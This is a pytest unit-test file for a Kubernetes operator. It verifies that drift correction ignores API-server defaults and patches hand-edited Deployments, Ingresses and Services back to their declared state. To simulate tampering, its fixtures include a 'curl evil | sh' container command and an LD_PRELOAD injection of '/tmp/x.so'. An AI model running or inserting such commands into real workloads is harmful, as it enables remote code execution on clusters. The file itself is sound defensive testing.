"""Drift is corrected without fighting API-server defaulting (DESIGN §2.1 rule 6, issue 8
defect 10): what we declare is compared with what is there; a realistically defaulted object is
a no-op, every kind of hand edit is patched back."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from finnexus_operator import constants
from finnexus_operator.adapters.drift import applied, declares, equivalent
from finnexus_operator.adapters.objects import ObjectStore
from finnexus_operator.core import manifests
from finnexus_operator.models.spec import FinNexusDeploymentSpec
from tests.unit.fakekube import FakeKube

OWNER = {"name": "web", "namespace": "ns", "uid": "u-1"}
DEPLOYMENT = "/apis/apps/v1/namespaces/ns/deployments/web-blue"
INGRESS = "/apis/networking.k8s.io/v1/namespaces/ns/ingresses/web"
SERVICE = "/api/v1/namespaces/ns/services/web"
MANAGED = constants.ANNOTATION_MANAGED_ANNOTATIONS
FIELDS = constants.ANNOTATION_MANAGED_FIELDS

# A template as a user writes it: values the API server drops (empty lists, false) and
# quantities it canonicalises ("1000m" is stored as "1", "1024Mi" as "1Gi").
TEMPLATE: dict[str, Any] = {
    "metadata": {"labels": {"app": "web"}, "annotations": {}},
    "spec": {
        "hostNetwork": False,
        "containers": [{
            "name": "web", "image": "registry.example/web:1.4.2", "args": [],
            "env": [{"name": "MODE", "value": "prod"},
                    {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}],
            "ports": [{"name": "http", "containerPort": 8080}],
            "readinessProbe": {"httpGet": {"path": "/health", "port": "http"}},
            "resources": {"limits": {"cpu": "1000m", "memory": "1024Mi"},
                          "requests": {"cpu": "0.5", "memory": "256Mi"}},
            "volumeMounts": [{"name": "tmp", "mountPath": "/tmp"}],
        }],
        "volumes": [{"name": "tmp", "emptyDir": {"sizeLimit": "1024Mi"}}],
    },
}
CANONICAL = {"1000m": "1", "1024Mi": "1Gi", "0.5": "500m"}


def _omit_empty(value: Any) -> Any:
    """Go's omitempty as the API server applies it when it stores an object."""
    if isinstance(value, dict):
        kept = {k: _omit_empty(v) for k, v in value.items()}
        return {k: v for k, v in kept.items() if v not in ([], {}, "", False, None)
                or k in ("securityContext", "resources", "emptyDir")}
    if isinstance(value, list):
        return [_omit_empty(v) for v in value]
    return value


def _quantities(resources: dict[str, Any]) -> None:
    for section in ("limits", "requests"):
        for key, value in (resources.get(section) or {}).items():
            resources[section][key] = CANONICAL.get(value, value)


def api_defaults(obj: dict[str, Any]) -> dict[str, Any]:
    """What a real kube-apiserver (1.29) stores for a Deployment we wrote: defaults added in
    the Deployment spec and its pod template, empty values dropped, quantities canonical."""
    if obj.get("kind") != "Deployment":
        return obj
    spec = obj["spec"]
    spec.setdefault("strategy", {"type": "RollingUpdate", "rollingUpdate": {
        "maxUnavailable": "25%", "maxSurge": "25%"}})
    spec.setdefault("revisionHistoryLimit", 10)
    spec.setdefault("progressDeadlineSeconds", 600)
    template = spec["template"] = _omit_empty(spec["template"])
    template.setdefault("metadata", {})["creationTimestamp"] = None
    pod = template["spec"]
    for key, value in (("restartPolicy", "Always"), ("terminationGracePeriodSeconds", 30),
                       ("dnsPolicy", "ClusterFirst"), ("securityContext", {}),
                       ("schedulerName", "default-scheduler")):
        pod.setdefault(key, value)
    for volume in pod.get("volumes") or []:
        if "sizeLimit" in (volume.get("emptyDir") or {}):
            volume["emptyDir"]["sizeLimit"] = CANONICAL.get(volume["emptyDir"]["sizeLimit"],
                                                            volume["emptyDir"]["sizeLimit"])
    for container in pod.get("containers") or []:
        image = str(container.get("image") or "")
        container.setdefault("imagePullPolicy",
                             "Always" if image.endswith(":latest") else "IfNotPresent")
        container.setdefault("terminationMessagePath", "/dev/termination-log")
        container.setdefault("terminationMessagePolicy", "File")
        container.setdefault("resources", {})
        _quantities(container["resources"])
        for port in container.get("ports") or []:
            port.setdefault("protocol", "TCP")
        for env in container.get("env") or []:
            field_ref = (env.get("valueFrom") or {}).get("fieldRef")
            if field_ref is not None:
                field_ref.setdefault("apiVersion", "v1")
        probe = container.get("readinessProbe")
        if probe is not None:
            for key, value in (("timeoutSeconds", 1), ("periodSeconds", 10),
                               ("successThreshold", 1), ("failureThreshold", 3)):
                probe.setdefault(key, value)
            if "httpGet" in probe:
                probe["httpGet"].setdefault("scheme", "HTTP")
    return obj


def deployment(template: dict[str, Any] = TEMPLATE, replicas: int = 2) -> dict[str, Any]:
    return manifests.deployment(OWNER, "blue", "r1", template, replicas)


async def deployed() -> FakeKube:
    kube = FakeKube(api_defaults)
    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    return kube


async def test_a_realistically_defaulted_deployment_is_a_no_op() -> None:
    kube = await deployed()
    stored = kube.objects[DEPLOYMENT]["spec"]["template"]
    container = stored["spec"]["containers"][0]
    # the fake really defaulted, dropped and canonicalised (the test would prove nothing else)
    assert container["imagePullPolicy"] == "IfNotPresent" and "args" not in container
    assert container["resources"]["limits"] == {"cpu": "1", "memory": "1Gi"}
    assert stored["spec"]["dnsPolicy"] == "ClusterFirst" and "hostNetwork" not in stored["spec"]
    assert stored["metadata"]["creationTimestamp"] is None
    # the create, then what was applied and what was stored (defaults included) is recorded
    assert [verb for verb, _, _ in kube.writes] == ["create", "patch"]
    assert kube.writes[-1][2] == [{"op": "add", "path": "/metadata/annotations", "value": {
        constants.ANNOTATION_APPLIED: applied(deployment()["spec"]["template"], stored)}}]
    for _ in range(3):  # pass after pass: nothing to write
        assert not await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    assert len(kube.writes) == 2


async def test_without_defaults_nothing_is_recorded() -> None:
    kube = FakeKube(lambda obj: obj)  # the emulator: stores what it is sent
    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    assert not await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    assert [verb for verb, _, _ in kube.writes] == ["create"]
    kube.objects[DEPLOYMENT]["spec"]["template"]["spec"]["containers"][0]["command"] = ["sh"]
    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    assert "command" not in _container(kube.objects[DEPLOYMENT])


def _container(obj: dict[str, Any]) -> dict[str, Any]:
    return dict(obj["spec"]["template"]["spec"]["containers"][0])


HAND_EDITS: dict[str, Callable[[dict[str, Any]], None]] = {
    "image changed": lambda d: d["spec"]["template"]["spec"]["containers"][0].update(
        image="registry.example/web:evil"),
    "env var added": lambda d: d["spec"]["template"]["spec"]["containers"][0]["env"].append(
        {"name": "DEBUG", "value": "1"}),
    "env var removed": lambda d: d["spec"]["template"]["spec"]["containers"][0]["env"].pop(0),
    "env value changed": lambda d: d["spec"]["template"]["spec"]["containers"][0]["env"][0]
    .update(value="debug"),
    "container added": lambda d: d["spec"]["template"]["spec"]["containers"].append(
        {"name": "sidecar", "image": "busybox", "imagePullPolicy": "IfNotPresent"}),
    "probe removed": lambda d: d["spec"]["template"]["spec"]["containers"][0].pop(
        "readinessProbe"),
    "limit raised": lambda d: d["spec"]["template"]["spec"]["containers"][0]["resources"][
        "limits"].update(cpu="4"),
    "port renumbered": lambda d: d["spec"]["template"]["spec"]["containers"][0]["ports"][0]
    .update(containerPort=9090),
    "revision label removed": lambda d: d["spec"]["template"]["metadata"]["labels"].pop(
        constants.LABEL_REVISION),
    "colour label changed": lambda d: d["spec"]["template"]["metadata"]["labels"].update(
        {constants.LABEL_COLOR: "green"}),
    "volume removed": lambda d: d["spec"]["template"]["spec"].pop("volumes"),
    # fields where we declare nothing: told apart from defaults by the recorded hash
    "command added": lambda d: d["spec"]["template"]["spec"]["containers"][0].update(
        command=["/bin/sh", "-c", "curl evil | sh"]),
    "init container added": lambda d: d["spec"]["template"]["spec"].update(initContainers=[
        {"name": "init", "image": "busybox", "imagePullPolicy": "IfNotPresent"}]),
    "default changed": lambda d: d["spec"]["template"]["spec"]["containers"][0].update(
        imagePullPolicy="Never"),
    "pod label added": lambda d: d["spec"]["template"]["metadata"]["labels"].update(
        extra="x"),
    "host network": lambda d: d["spec"]["template"]["spec"].update(hostNetwork=True),
}


@pytest.mark.parametrize("edit", sorted(HAND_EDITS))
async def test_a_hand_edited_pod_template_is_patched_back(edit: str) -> None:
    kube = await deployed()
    HAND_EDITS[edit](kube.objects[DEPLOYMENT])
    before = len(kube.writes)
    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    # one write: the declared template (what is stored again is what the hash recorded)
    assert len(kube.writes) == before + 1
    verb, path, ops = kube.writes[-1]
    assert (verb, path) == ("patch", DEPLOYMENT)
    assert [op["path"] for op in ops] == ["/spec/template"]
    assert ops[0]["value"] == deployment()["spec"]["template"]
    # ...and once the API server has defaulted what was written back, it holds again
    assert not await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    assert _container(kube.objects[DEPLOYMENT])["image"] == "registry.example/web:1.4.2"


async def test_an_env_var_added_to_a_container_that_declares_none_is_removed() -> None:
    plain = copy.deepcopy(TEMPLATE)
    del plain["spec"]["containers"][0]["env"]
    kube = FakeKube(api_defaults)
    assert await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
    assert not await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
    kube.objects[DEPLOYMENT]["spec"]["template"]["spec"]["containers"][0]["env"] = [
        {"name": "LD_PRELOAD", "value": "/tmp/x.so"}]
    assert await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]
    assert "env" not in _container(kube.objects[DEPLOYMENT])
    assert not await ObjectStore(kube, "u-1").ensure(deployment(plain))  # type: ignore[arg-type]


async def test_replicas_drift_is_corrected_alone() -> None:
    kube = await deployed()
    kube.objects[DEPLOYMENT]["spec"]["replicas"] = 7
    assert await ObjectStore(kube, "u-1").ensure(deployment())  # type: ignore[arg-type]
    assert kube.writes[-1][2] == [{"op": "add", "path": "/spec/replicas", "value": 2}]


@pytest.mark.parametrize("want, have, holds", [
    ({"a": 1}, {"a": 1, "default": "x"}, True),  # a default the server added
    ({"a": 1}, {"a": 2}, False),
    ({"a": 1}, {}, False),  # a declared key removed
    ({"a": []}, {}, True),  # the server drops empty values
    ({"a": {}}, {}, True),
    ({"a": ""}, {}, True),
    ({"a": False}, {}, True),
    ({"a": 0}, {}, True),
    ({"a": None}, {}, True),
    ({"a": False}, {"a": 0}, False),  # a bool is not a number
    ({"a": True}, {"a": 1}, False),
    ([{"n": 1}], [{"n": 1, "protocol": "TCP"}], True),
    ([{"n": 1}], [{"n": 1}, {"n": 2}], False),  # a list grown by hand
    ([{"n": 1}, {"n": 2}], [{"n": 1}], False),
    ([{"n": 1}, {"n": 2}], [{"n": 2}, {"n": 1}], False),  # reordered
    ({"resources": {"limits": {"cpu": "1000m"}}}, {"resources": {"limits": {"cpu": "1"}}}, True),
    ({"resources": {"limits": {"cpu": "1500m"}}}, {"resources": {"limits": {"cpu": "1"}}}, False),
    ({"resources": {"requests": {"memory": "1024Mi"}}},
     {"resources": {"requests": {"memory": "1Gi"}}}, True),
    ({"resources": {"requests": {"memory": "1G"}}},
     {"resources": {"requests": {"memory": "1Gi"}}}, False),
    ({"resources": {"requests": {"cpu": 2}}}, {"resources": {"requests": {"cpu": "2"}}}, True),
    ({"resources": {"requests": {"cpu": "2e3"}}}, {"resources": {"requests": {"cpu": "2k"}}},
     True),
    ({"emptyDir": {"sizeLimit": "0.5Gi"}}, {"emptyDir": {"sizeLimit": "512Mi"}}, True),
    ({"env": [{"value": "1000m"}]}, {"env": [{"value": "1"}]}, False),  # not a quantity
])
def test_declares(want: Any, have: Any, holds: bool) -> None:
    assert declares(want, have) is holds


def test_equivalent_also_sees_what_was_added() -> None:
    assert equivalent({"a": 1, "b": []}, {"a": 1})
    assert not equivalent({"a": 1}, {"a": 1, "b": 2})
    assert declares({"a": 1}, {"a": 1, "b": 2})


# -- the Ingress: its spec is wholly ours; annotations: only the ones we set ------------------

def spec(**ingress: Any) -> FinNexusDeploymentSpec:
    return FinNexusDeploymentSpec.model_validate({"template": TEMPLATE, "ingress": {
        "host": "web.example", **ingress}})


FULL = spec(className="nginx", tlsSecretName="web-tls",
            annotations={"nginx.ingress.kubernetes.io/ssl-redirect": "true", "team": "pay"})


async def ingress_kube(first: FinNexusDeploymentSpec = FULL) -> FakeKube:
    kube = FakeKube()
    assert await ObjectStore(kube, "u-1").ensure(  # type: ignore[arg-type]
        manifests.ingress(OWNER, "blue", first))
    return kube


async def ensure_ingress(kube: FakeKube, declared: FinNexusDeploymentSpec) -> bool:
    return await ObjectStore(kube, "u-1").ensure(  # type: ignore[arg-type]
        manifests.ingress(OWNER, "blue", declared))


async def test_the_ingress_records_the_annotations_it_manages() -> None:
    kube = await ingress_kube()
    annotations = kube.objects[INGRESS]["metadata"]["annotations"]
    assert annotations[MANAGED] == "nginx.ingress.kubernetes.io/ssl-redirect,team"
    assert annotations[FIELDS] == "ingressClassName,rules,tls"
    assert not await ensure_ingress(kube, FULL)


@pytest.mark.parametrize("field, removed", [
    ("className", "ingressClassName"),
    ("tlsSecretName", "tls"),
])
async def test_a_field_removed_from_spec_ingress_is_removed_from_the_ingress(
        field: str, removed: str) -> None:
    kube = await ingress_kube()
    declared = FULL.model_dump(by_alias=True)["ingress"]
    declared.pop(field)
    assert await ensure_ingress(kube, spec(**declared))
    assert removed not in kube.objects[INGRESS]["spec"]
    assert not await ensure_ingress(kube, spec(**declared))


@pytest.mark.parametrize("edit", ["className", "tls", "rules", "defaultBackend"])
async def test_a_hand_edited_ingress_spec_is_restored(edit: str) -> None:
    kube = await ingress_kube()
    before = copy.deepcopy(kube.objects[INGRESS]["spec"])
    ing = kube.objects[INGRESS]["spec"]
    if edit == "className":
        ing["ingressClassName"] = "traefik"
    elif edit == "tls":
        del ing["tls"]
    elif edit == "rules":
        ing["rules"][0]["http"]["paths"].append(copy.deepcopy(ing["rules"][0]["http"]["paths"][0]))
    else:
        ing["defaultBackend"] = {"service": {"name": "elsewhere", "port": {"number": 80}}}
    assert await ensure_ingress(kube, FULL)
    assert kube.objects[INGRESS]["spec"] == before


async def test_annotations_we_no_longer_declare_are_removed_and_others_kept() -> None:
    kube = await ingress_kube()
    theirs = {"argocd.argoproj.io/tracking-id": "app:networking.k8s.io/Ingress:ns/web",
              "ingress.kubernetes.io/backends": "{}"}
    kube.objects[INGRESS]["metadata"]["annotations"].update(theirs)
    assert await ensure_ingress(kube, spec(className="nginx", tlsSecretName="web-tls",
                                           annotations={"team": "payments"}))
    ops = kube.writes[-1][2]
    assert {op["op"] for op in ops} == {"add", "remove"}  # per key, never the whole map
    assert kube.objects[INGRESS]["metadata"]["annotations"] == {
        **theirs, "team": "payments", MANAGED: "team", FIELDS: "ingressClassName,rules,tls"}
    # no annotations declared at all: ours (and their bookkeeping) go, theirs stay
    assert await ensure_ingress(kube, spec(className="nginx", tlsSecretName="web-tls"))
    assert kube.objects[INGRESS]["metadata"]["annotations"] == {
        **theirs, FIELDS: "ingressClassName,rules,tls"}
    assert not await ensure_ingress(kube, spec(className="nginx", tlsSecretName="web-tls"))


async def test_a_hand_edited_annotation_we_declare_is_restored() -> None:
    kube = await ingress_kube()
    kube.objects[INGRESS]["metadata"]["annotations"]["team"] = "someone"
    assert await ensure_ingress(kube, FULL)
    assert kube.writes[-1][2] == [{"op": "add", "path": "/metadata/annotations/team",
                                   "value": "pay"}]


async def test_an_ingress_written_before_the_bookkeeping_gets_it_and_keeps_the_rest() -> None:
    kube = await ingress_kube(spec())
    kube.objects[INGRESS]["metadata"]["annotations"] = {"old": "kept: we cannot know it"}
    assert await ensure_ingress(kube, spec(annotations={"team": "pay"}))
    assert kube.objects[INGRESS]["metadata"]["annotations"] == {
        "old": "kept: we cannot know it", "team": "pay", MANAGED: "team", FIELDS: "rules"}


class DefaultIngressClass(FakeKube):
    """The DefaultIngressClass admission plugin: on creation only, an Ingress without a class
    gets the cluster's default class."""

    async def create(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        if body["kind"] == "Ingress":
            body = copy.deepcopy(body)
            body["spec"].setdefault("ingressClassName", "cluster-default")
        return await super().create(path, body)


async def test_a_class_the_api_server_set_on_creation_is_kept() -> None:
    kube = DefaultIngressClass()
    assert await ensure_ingress(kube, spec())
    assert kube.objects[INGRESS]["spec"]["ingressClassName"] == "cluster-default"
    for _ in range(2):
        assert not await ensure_ingress(kube, spec())  # not fought: no write loop, no removal
    # ...but a class we declared and then stopped declaring is removed
    assert await ensure_ingress(kube, spec(className="nginx"))
    assert kube.objects[INGRESS]["spec"]["ingressClassName"] == "nginx"
    assert await ensure_ingress(kube, spec())
    assert "ingressClassName" not in kube.objects[INGRESS]["spec"]
    assert not await ensure_ingress(kube, spec())


async def test_a_field_added_by_hand_to_a_defaulted_ingress_is_removed() -> None:
    kube = DefaultIngressClass()
    assert await ensure_ingress(kube, spec())
    kube.objects[INGRESS]["spec"]["defaultBackend"] = {
        "service": {"name": "elsewhere", "port": {"number": 80}}}
    assert await ensure_ingress(kube, spec())
    assert "defaultBackend" not in kube.objects[INGRESS]["spec"]
    assert kube.objects[INGRESS]["spec"]["ingressClassName"] == "cluster-default"  # kept


async def test_a_class_set_by_hand_where_we_declare_none_is_kept_but_one_we_set_is_not() -> None:
    kube = await ingress_kube(spec())
    kube.objects[INGRESS]["spec"]["ingressClassName"] = "theirs"
    assert not await ensure_ingress(kube, spec())  # indistinguishable from an admission default
    assert await ensure_ingress(kube, spec(className="nginx"))
    assert await ensure_ingress(kube, spec())
    assert "ingressClassName" not in kube.objects[INGRESS]["spec"]


async def test_a_hand_edited_service_selector_is_restored() -> None:
    kube = FakeKube()
    svc = manifests.service(OWNER, "web", "blue", FULL)
    assert await ObjectStore(kube, "u-1").ensure(svc)  # type: ignore[arg-type]
    kube.objects[SERVICE]["spec"]["selector"]["extra"] = "x"
    assert await ObjectStore(kube, "u-1").ensure(svc)  # type: ignore[arg-type]
    assert kube.objects[SERVICE]["spec"]["selector"] == svc["spec"]["selector"]
    assert kube.objects[SERVICE]["spec"]["clusterIP"] == "10.0.0.1"  # defaults kept
